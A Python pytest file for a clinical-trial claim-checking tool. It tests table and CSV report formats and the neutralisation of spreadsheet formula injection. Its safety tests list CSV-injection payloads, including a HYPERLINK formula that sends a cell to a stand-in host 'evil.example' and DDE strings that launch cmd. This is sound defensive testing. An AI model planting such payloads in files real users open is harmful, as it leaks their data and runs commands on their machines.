"""The table and CSV formats of ``lookup``, ``claims`` and ``check``, and CSV-injection safety.

Studies are the real records in cassettes/snapshot/ (Study.from_api). Claims and checked
documents are built directly from the real types, with quotes taken from the seeds; the
comparison rows below are what the matching stage is specified to produce for them (issue #4),
written out by hand because the matcher is not part of these tests.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
from pathlib import Path

import pandas as pd
import pytest

from trialmatch.claims.model import Arm, Claim, DateSpan, DocumentClaims, Figure
from trialmatch.compare import (
    CheckedClaim,
    CheckedDocument,
    CheckedFigure,
    Comparison,
    Flag,
)
from trialmatch.matching import Match, Reason
from trialmatch.registry.study import Study
from trialmatch.report import FormatError, get_format
from trialmatch.report.csv import FINDINGS_COLUMNS, CsvFormat
from trialmatch.report.safety import (
    is_formula_like,
    neutralize_cell,
    neutralize_csv_cell,
    neutralize_frame,
)
from trialmatch.report.table import NOT_IN_RECORD, TableFormat, shorten

ROOT = Path(__file__).resolve().parent.parent
SNAPSHOT = ROOT / "cassettes" / "snapshot"
SEEDS = ROOT / "seeds"
RETRIEVED = "2026-11-22T03:00:00Z"


def study(nct_id: str) -> Study:
    return Study.from_api(json.loads((SNAPSHOT / f"{nct_id}.json").read_text(encoding="utf-8")))


def seed_text(prefix: str) -> tuple[str, str]:
    path = next(SEEDS.glob(f"{prefix}_*.txt"))
    return f"seeds/{path.name}", path.read_text(encoding="utf-8")


def span_of(text: str, needle: str) -> tuple[int, int]:
    start = text.index(needle)
    return (start, start + len(needle))


def field(block: str, label: str) -> str:
    """The value printed after ``label`` in a block of aligned ``label  value`` lines."""
    match = re.search(rf"^  {re.escape(label)}  +(.*)$", block, re.MULTILINE)
    assert match, f"no {label!r} line in:\n{block}"
    return match.group(1)


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# ---------------------------------------------------------------------------------- fixtures
@pytest.fixture
def seed003() -> CheckedDocument:
    """Seed 003's Bioinova Phase IIa claim linked to NCT03828123 (issue #4's expected result)."""
    path, text = seed_text("003")
    quote_start = text.index("This led Bioinova")
    period_start = text.index("JAN/2012", quote_start)
    period_end = text.index("DEC/2016", period_start) + len("DEC/2016")
    period = text[period_start:period_end]  # the seed has thin spaces around the dash
    quote = text[quote_start : period_end + 2]
    nct = study("NCT03828123")
    claim = Claim(
        claim_id="92c0c7b7-c01",
        quote=quote,
        spans=((period_start, period_end),),
        sponsors=("Bioinova",),
        conditions=("ALS",),
        phases=("PHASE2",),
        dates=(
            DateSpan(
                text=period,
                start="2012-01",
                end="2016-12",
                role="period",
                span=(period_start, period_end),
            ),
        ),
    )
    version = nct.record_version

    def row(field: str, claimed, registered, verdict: str, source: str) -> Comparison:
        return Comparison(
            nct_id=nct.nct_id, field=field, claimed=claimed, registered=registered,
            verdict=verdict, source_path=source, record_version=version, retrieved_at=RETRIEVED,
        )  # fmt: skip

    comparisons = (
        row("phase", ["PHASE2"], list(nct.phases), "partly consistent",
            "protocolSection.designModule.phases"),
        row("start_date", {"start": "2012-01", "end": "2016-12"},
            nct.start_date.to_dict(), "consistent",
            "protocolSection.statusModule.startDateStruct"),
        row("completion_date", {"start": "2012-01", "end": "2016-12"},
            nct.completion_date.to_dict(), "differs",
            "protocolSection.statusModule.completionDateStruct"),
        row("registration", None, None, "not in record",
            "protocolSection.statusModule.studyFirstPostDateStruct"),
        row("sponsor", ["Bioinova"], nct.lead_sponsor.name, "consistent",
            "protocolSection.sponsorCollaboratorsModule.leadSponsor"),
    )  # fmt: skip
    match = Match(
        nct_id=nct.nct_id,
        score=0.874,
        reasons=(Reason("sponsor", "agreed", "Bioinova ~ Bioinova, s.r.o."),),
    )
    checked_claim = CheckedClaim(
        claim=claim,
        matches=(match,),
        comparisons=comparisons,
        flags=(Flag(nct.nct_id, "phase_mismatch", "claimed PHASE2, registered PHASE1+PHASE2"),),
    )
    doc = DocumentClaims(doc=path, sha256="92c0c7b74f5bab9b" + "0" * 48, claims=(claim,))
    return CheckedDocument(
        doc=doc,
        claims=(checked_claim,),
        run_date="2026-11-22",
        registry="snapshot cassettes/snapshot (16 studies)",
        studies={nct.nct_id: nct},
    )


@pytest.fixture
def seed001() -> CheckedDocument:
    """Seed 001 (GenCell): an outcome figure tied to no registered trial."""
    path, text = seed_text("001")
    needle = "67% of the patients showed decreased weakness"
    s, _ = span_of(text, needle)
    fig = Figure(
        value=67,
        unit="percent",
        measure="of the patients showed decreased weakness",
        population="ALS patients who have not responded to drug therapies",
        span=(s, s + 3),
    )
    claim = Claim(
        claim_id="e8805517-c01",
        quote="Stem cell transplantation to ALS patients.",
        spans=((0, 10),),
        conditions=("ALS",),
    )
    doc = DocumentClaims(doc=path, sha256="e8805517439d9a80" + "0" * 48, figures=(fig,))
    return CheckedDocument(
        doc=doc,
        claims=(
            CheckedClaim(
                claim=claim,
                candidates=(Match(nct_id="NCT03799718", score=0.21),),
            ),
        ),
        figures=(CheckedFigure(figure=fig, figure_verdict="no registered trial"),),
        run_date="2026-11-22",
        registry="snapshot cassettes/snapshot",
    )


@pytest.fixture
def seed000_claims() -> DocumentClaims:
    """Seed 000's two claims as extraction is specified to return them (issue #3)."""
    path, text = seed_text("000")
    start = text.index("double-blind, randomized trial") - len("The \xa0")
    us_quote = text[start : text.index("placebo.", start) + len("placebo.")]
    assert us_quote.startswith("The") and "will involve 48 patients" in us_quote
    hadassah = (
        "The therapy showed promising preliminary effects in two initial trials that involved "
        "24 patients and were conducted at Jerusalem’s Hadassah University Medical Center."
    )
    us = Claim(
        claim_id="e0602de3-c01",
        quote=us_quote,
        spans=(
            span_of(text, "entering Phase II clinical trials in the US"),
            span_of(text, us_quote),
        ),
        names=("NurOwn",),
        sponsors=("BrainStorm Cell Therapeutics",),
        conditions=("ALS",),
        phases=("PHASE2",),
        design=("randomized", "double-blind"),
        enrollment=48,
        arms=(Arm("NurOwn", 36), Arm("placebo", 12)),
        dates=(DateSpan("early 2016", "2016-01", "2016-06", "results"),),
        countries=("United States",),
        status=("entering", "launched"),
    )
    early = Claim(
        claim_id="e0602de3-c02",
        quote=hadassah,
        spans=(span_of(text, hadassah),),
        trial_count=2,
        enrollment=24,
        sites=("Hadassah University Medical Center",),
        countries=("Israel",),
    )
    s, _ = span_of(text, "60 percent")
    fig = Figure(60, "percent", "beneficial response after the treatment", None, (s, s + 10))
    return DocumentClaims(
        doc=path, sha256="e0602de30e6a8879" + "0" * 48, claims=(us, early), figures=(fig,)
    )


# ---------------------------------------------------------------------------------- registry
def test_get_format_gives_the_table_and_csv_formats():
    assert isinstance(get_format("table"), TableFormat)
    assert isinstance(get_format("csv"), CsvFormat)


def test_lookup_table_shows_registered_values_and_not_in_record():
    out = TableFormat(width=100).studies([study("NCT03828123"), study("NCT02017912")])
    block_a, block_b = out.split("\n\nNCT02017912")
    # values as the record gives them
    assert block_a.startswith("NCT03828123  Autologous Multipotent Mesenchymal Stromal Cells")
    assert "Phases                PHASE1, PHASE2" in block_a
    assert "Enrollment            26\n" in block_a  # no type in this record: none shown
    assert "Start                 2012-01-31\n" in block_a
    assert "Lead sponsor          Bioinova, s.r.o." in block_a
    assert "Has results           no" in block_a
    # this record has no first-posted date and no version: said, not guessed
    assert "First posted          not in record" in block_a
    assert "Record version        not in record" in block_a
    assert "URL                   https://clinicaltrials.gov/study/NCT03828123" in block_a
    # NCT02017912 holds only an ID and a title: every fact is "not in record"
    for label in ("Status", "Phases", "Enrollment", "Start", "Completion", "Has results",
                  "Lead sponsor", "Record version"):  # fmt: skip
        assert f"  {label.ljust(22)}{NOT_IN_RECORD}" in block_b, label
    assert "Phase 2, Randomized, Double Blind" in block_b  # the title is shown as the title ...
    assert "Phases                not in record" in block_b  # ... and gives it no phase


def test_lookup_table_dates_carry_their_type():
    out = TableFormat(width=100).studies([study("NCT02513394")])
    assert "Enrollment            5796 (ACTUAL)" in out
    assert "Primary completion    2020-11 (ACTUAL)" in out
    assert "Completion            2025-09 (ESTIMATED)" in out
    assert "Has results           yes" in out
    assert "Record version        2023-10-06" in out
    assert "2014-005181-30" in out  # the EudraCT number among the secondary IDs


def test_lookup_table_every_line_fits_the_width():
    for width in (72, 100):
        out = TableFormat(width=width).studies([study("NCT02513394")])
        assert max(len(line) for line in out.splitlines()) <= width


def test_lookup_csv_has_the_json_keys_and_values():
    studies = [study("NCT03828123"), study("NCT01051882"), study("NCT02017912")]
    out = CsvFormat().studies(studies)
    rows = read_csv(out)
    assert list(rows[0]) == list(studies[0].to_dict())
    a, b, c = rows
    assert a["nct_id"] == "NCT03828123"
    assert a["phases"] == "PHASE1; PHASE2"
    assert a["enrollment"] == "26"
    assert a["has_results"] == "false"
    assert a["lead_sponsor"] == "Bioinova, s.r.o."
    assert a["conditions"] == "Motor Neuron Disease; Amyotrophic Lateral Sclerosis"
    assert b["enrollment"] == "12"
    assert b["lead_sponsor"] == "Brainstorm-Cell Therapeutics"
    # absent values are empty cells, never filled in
    assert c["status"] == c["phases"] == c["enrollment"] == c["has_results"] == ""
    assert c["url"] == "https://clinicaltrials.gov/study/NCT02017912"
    # pandas reads numbers as numbers
    frame = pd.read_csv(io.StringIO(out))
    assert frame.loc[0, "enrollment"] == 26


def test_lookup_csv_without_studies_still_has_a_header():
    assert CsvFormat().studies([]).split(",")[0] == "nct_id"


# ---------------------------------------------------------------------------------- claims
def test_claims_table_lists_each_claim_and_the_figures(seed000_claims):
    out = TableFormat(width=100).claims([seed000_claims])
    assert out.startswith("Document: seeds/000_e0602de30e6a8879.txt  (sha256 e0602de30e6a)")
    assert "2 trial claim(s), 1 figure(s)" in out
    us, rest = out.split("Claim e0602de3-c02")
    assert "Claim e0602de3-c01" in us
    assert field(us, "Phases") == "PHASE2"
    assert field(us, "Enrollment") == "48 (arms: NurOwn 36, placebo 12)"
    assert field(us, "Dates") == "early 2016 → 2016-01..2016-06 (results)"
    assert field(us, "Names") == "NurOwn"
    assert field(us, "Sponsors") == "BrainStorm Cell Therapeutics"
    assert field(us, "IDs") == "—"
    assert field(us, "Design") == "randomized, double-blind"
    assert field(us, "Countries") == "United States"
    assert "(2 trials described together)" in rest
    assert field(rest, "Enrollment") == "24"
    assert field(rest, "Sites") == "Hadassah University Medical Center"
    assert field(rest, "Phases") == "—"
    assert "• 60 percent — beneficial response after the treatment" in rest
    assert "belongs to no claim" in rest


def test_claims_table_shows_a_document_error():
    doc = DocumentClaims(doc="docs/empty.txt", sha256=None, error="docs/empty.txt: empty file")
    out = TableFormat(width=80).claims([doc])
    assert "Document: docs/empty.txt" in out
    assert "ERROR: docs/empty.txt: empty file" in out


def test_claims_csv_rows_per_claim_and_figure(seed000_claims):
    rows = read_csv(CsvFormat().claims([seed000_claims]))
    assert [r["kind"] for r in rows] == ["claim", "claim", "figure"]
    us = rows[0]
    assert us["phases"] == "PHASE2"
    assert us["enrollment"] == "48"
    assert json.loads(us["arms"]) == [{"label": "NurOwn", "n": 36}, {"label": "placebo", "n": 12}]
    assert rows[1]["trial_count"] == "2"
    assert rows[2]["value"] == "60" and rows[2]["unit"] == "percent"


def test_quotes_are_shortened_in_the_middle():
    long = "Phase II " + "word " * 100 + "the end."
    short = shorten(long, 80)
    assert len(short) <= 84
    assert short.startswith("Phase II") and short.endswith("the end.")
    assert " … " in short


# ---------------------------------------------------------------------------------- check
def test_check_table_side_by_side(seed003):
    out = TableFormat(width=110).checks([seed003])
    assert "1 trial claim(s): 1 linked, 0 with no registered trial found; 0 figure(s)." in out
    assert "Registry: snapshot cassettes/snapshot (16 studies), run date 2026-11-22" in out
    assert "Link    NCT03828123 (score 0.87)" in out
    assert "https://clinicaltrials.gov/study/NCT03828123 (version not in record)" in out
    lines = out.splitlines()
    header = next(line for line in lines if line.strip().startswith("Field"))
    for column in ("Claimed", "Registered", "Verdict"):
        assert column in header
    phase = next(line for line in lines if line.strip().startswith("phase "))
    assert "PHASE2" in phase and "PHASE1, PHASE2" in phase and "partly consistent" in phase
    start = next(line for line in lines if line.strip().startswith("start_date"))
    assert "2012-01..2016-12" in start and "2012-01-31" in start and "consistent" in start
    registration = next(line for line in lines if line.strip().startswith("registration"))
    assert registration.split() == ["registration", "not", "claimed", "not", "in", "record",
                                    "not", "in", "record"]  # fmt: skip
    assert "! phase_mismatch: claimed PHASE2, registered PHASE1+PHASE2" in out
    # verdict column is aligned: every row's verdict starts where the header's does
    col = header.index("Verdict")
    table = lines[lines.index(header) + 2 : lines.index(header) + 7]
    assert all(line[col:].strip() in {"partly consistent", "consistent", "differs",
                                      "not in record"} for line in table)  # fmt: skip


def test_check_table_unlinked_claim_and_figure_verdict(seed001):
    out = TableFormat(width=100).checks([seed001])
    assert "Link    no registered trial found (best candidate NCT03799718, score 0.21, " in out
    assert "• 67 percent — of the patients showed decreased weakness" in out
    assert "verdict: no registered trial" in out


def test_check_csv_has_the_findings_columns(seed003, seed001):
    rows = read_csv(CsvFormat().checks([seed003, seed001]))
    assert tuple(rows[0]) == FINDINGS_COLUMNS
    by_field = {r["field"]: r for r in rows if r["doc"].startswith("seeds/003")}
    phase = by_field["phase"]
    assert phase["nct_id"] == "NCT03828123"
    assert phase["score"] == "0.874"
    assert phase["claimed"] == "PHASE2"
    assert phase["registered"] == "PHASE1;PHASE2"
    assert phase["verdict"] == "partly consistent"
    assert phase["flags"] == "phase_mismatch"
    assert phase["url"] == "https://clinicaltrials.gov/study/NCT03828123"
    # the quote is the claim's sentence on one line (the seed breaks lines mid-sentence)
    assert phase["quote"].startswith("This led Bioinova, as the study sponsor, to propose")
    assert "\n" not in phase["quote"]
    assert by_field["registration"]["registered"] == ""
    assert by_field["registration"]["verdict"] == "not in record"
    assert json.loads(by_field["start_date"]["registered"]) == {
        "date": "2012-01-31", "precision": "day", "type": None,
    }  # fmt: skip
    seed1 = [r for r in rows if r["doc"].startswith("seeds/001")]
    assert [(r["field"], r["verdict"], r["nct_id"]) for r in seed1] == [
        ("registration", "no registered trial found", ""),
        ("figure", "no registered trial", ""),
    ]
    assert seed1[1]["claimed"] == "67 percent: of the patients showed decreased weakness"
    assert len(rows) == 5 + 2


def test_claims_have_no_table_only_format_gap():
    """Every format renders every command; none raises FormatError for the CLI's choices."""
    for name in ("table", "csv"):
        fmt = get_format(name)
        assert fmt.claims([]) is not None
    with pytest.raises(FormatError):
        get_format("xml")


# ---------------------------------------------------------------------------------- safety
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n@SUM(A1)",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_cells_are_neutralized(value):
    assert is_formula_like(value)
    assert neutralize_csv_cell(value) == "'" + value
    assert neutralize_cell is neutralize_csv_cell


@pytest.mark.parametrize(
    "value",
    [12, -12, 3.5, -0.25, 0, True, None, "", "-12", "+3.5", "-1e5", ".5", "NurOwn", "67%",
     "PHASE1; PHASE2", "'=already quoted", "a=b"],
)  # fmt: skip
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralize_csv_cell(value) == value
    assert type(neutralize_csv_cell(value)) is type(value)


def test_nan_is_left_alone():
    assert math.isnan(neutralize_csv_cell(float("nan")))


def test_phone_numbers_and_dashes_are_text_not_numbers():
    assert neutralize_csv_cell("+38 044 223 28 95") == "'+38 044 223 28 95"
    assert neutralize_csv_cell("- placebo") == "'- placebo"


def test_dataframe_helper_keeps_numeric_columns_numeric():
    frame = pd.DataFrame(
        {"quote": ["=1+1", "plain", None], "n": [1, -2, 3], "x": [0.5, -1.5, float("nan")]}
    )
    safe = neutralize_frame(frame)
    assert list(safe["quote"])[:2] == ["'=1+1", "plain"]
    assert pd.isna(safe["quote"][2])
    assert safe["n"].dtype == frame["n"].dtype and list(safe["n"]) == [1, -2, 3]
    assert safe["x"].dtype == frame["x"].dtype
    assert list(frame["quote"])[:2] == ["=1+1", "plain"]  # the input is not modified
    text = safe.to_csv(index=False, lineterminator="\n")
    assert text.splitlines()[1] == "'=1+1,1,0.5"
    assert text.splitlines()[2] == "plain,-2,-1.5"


def hostile_check() -> CheckedDocument:
    """A hostile document's claim: formula quotes, names and terminal escapes."""
    claim = Claim(
        claim_id="=c01",
        quote='=HYPERLINK("http://evil.example","Phase II") \x1b[31mred\x1b[0m\rover',
        spans=((0, 5),),
        names=("@SUM(1+1)",),
        phases=("PHASE2",),
        enrollment=-5,
    )
    nct = study("NCT01051882")
    row = Comparison(
        nct_id=nct.nct_id, field="intervention", claimed=["+cmd|' /C calc'!A0"],
        registered=[iv.name for iv in nct.interventions], verdict="differs",
        source_path="protocolSection.armsInterventionsModule.interventions",
        record_version=nct.record_version, retrieved_at=RETRIEVED,
    )  # fmt: skip
    fig = Figure(-2, "percent", "-2+3 of patients\x07", "=cmd", (0, 2), claim_id="=c01")
    return CheckedDocument(
        doc=DocumentClaims(doc="+evil.html", sha256="0" * 64, claims=(claim,), figures=(fig,)),
        claims=(CheckedClaim(claim=claim, matches=(Match(nct.nct_id, 0.9),), comparisons=(row,)),),
        figures=(
            CheckedFigure(figure=fig, figure_verdict="no posted results", nct_ids=(nct.nct_id,)),
        ),
        studies={nct.nct_id: nct},
    )


def test_check_csv_neutralizes_hostile_cells_and_keeps_numbers():
    out = CsvFormat().checks([hostile_check()])
    rows = read_csv(out)
    for r in rows:
        for column, value in r.items():
            assert not is_formula_like(value), (column, value)
    first = rows[0]
    assert first["doc"] == "'+evil.html"
    assert first["claim_id"] == "'=c01"
    assert first["quote"].startswith("'=HYPERLINK(")
    assert first["claimed"] == "'+cmd|' /C calc'!A0"
    assert first["score"] == "0.9"  # a number, untouched
    figure = rows[1]
    assert figure["claimed"] == "'-2 percent: -2+3 of patients\x07"


def test_claims_csv_keeps_negative_numbers_numeric():
    doc = hostile_check().doc
    rows = read_csv(CsvFormat().claims([doc]))
    assert rows[0]["enrollment"] == "-5"
    assert rows[0]["names"] == "'@SUM(1+1)"
    assert rows[1]["value"] == "-2"
    assert rows[1]["population"] == "'=cmd"


def test_table_output_has_no_control_characters():
    out = TableFormat(width=100).checks([hostile_check()])
    assert "\x1b" not in out and "\r" not in out and "\x07" not in out
    assert "[31mred" in out  # the text stays readable, only the escape byte is gone


def test_figure_beside_posted_results_of_a_real_record():
    """NCT02513394 (the complete real record) has posted results: they are shown beside the
    figure, in the table and in the CSV, and the verdict is ``results posted``."""
    nct = study("NCT02513394")
    primary = next(r for r in nct.result_outcomes if r.type == "PRIMARY")
    outcomes = (
        {
            "nct_id": nct.nct_id,
            "kind": "primary_outcome",
            "measure": nct.primary_outcomes[0].measure,
            "time_frame": nct.primary_outcomes[0].time_frame,
        },
        {
            "nct_id": nct.nct_id,
            "kind": "posted_result",
            "measure": primary.title,
            "time_frame": primary.time_frame,
            "unit": primary.unit,
            "values": [{"group": g, "value": v} for g, v in primary.groups],
        },
    )
    claim = Claim(claim_id="s-c01", quote="SAMPLE: the PALLAS trial.", spans=((0, 5),))
    fig = Figure(85, "percent", "of patients free of invasive disease", None, (0, 3), "s-c01")
    checked = CheckedDocument(
        doc=DocumentClaims(doc="sample.txt", sha256="1" * 64, claims=(claim,), figures=(fig,)),
        claims=(CheckedClaim(claim=claim, matches=(Match(nct.nct_id, 0.97),)),),
        figures=(
            CheckedFigure(
                figure=fig,
                figure_verdict="results posted",
                nct_ids=(nct.nct_id,),
                registered_outcomes=outcomes,
            ),
        ),
        studies={nct.nct_id: nct},
    )
    table = " ".join(TableFormat(width=120).checks([checked]).split())  # unwrapped
    assert "claim s-c01; verdict: results posted; records: NCT02513394" in table
    assert (
        "registered: NCT02513394 posted result: Invasive Disease Free Survival (iDFS) — 4 years"
        " — percentage of participants — Palbociclib Plus Endocrine Therapy (Arm A): 84.2,"
        " Endocrine Therapy Alone (Arm B): 84.5"
    ) in table
    assert "registered: NCT02513394 primary outcome: Invasive Disease Free Survival" in table
    assert "(version 2023-10-06)" in table
    (row,) = [r for r in read_csv(CsvFormat().checks([checked])) if r["field"] == "figure"]
    assert row["verdict"] == "results posted"
    assert row["nct_id"] == "NCT02513394"
    assert "Palbociclib Plus Endocrine Therapy (Arm A): 84.2" in row["registered"]
    assert row["quote"] == "SAMPLE: the PALLAS trial."
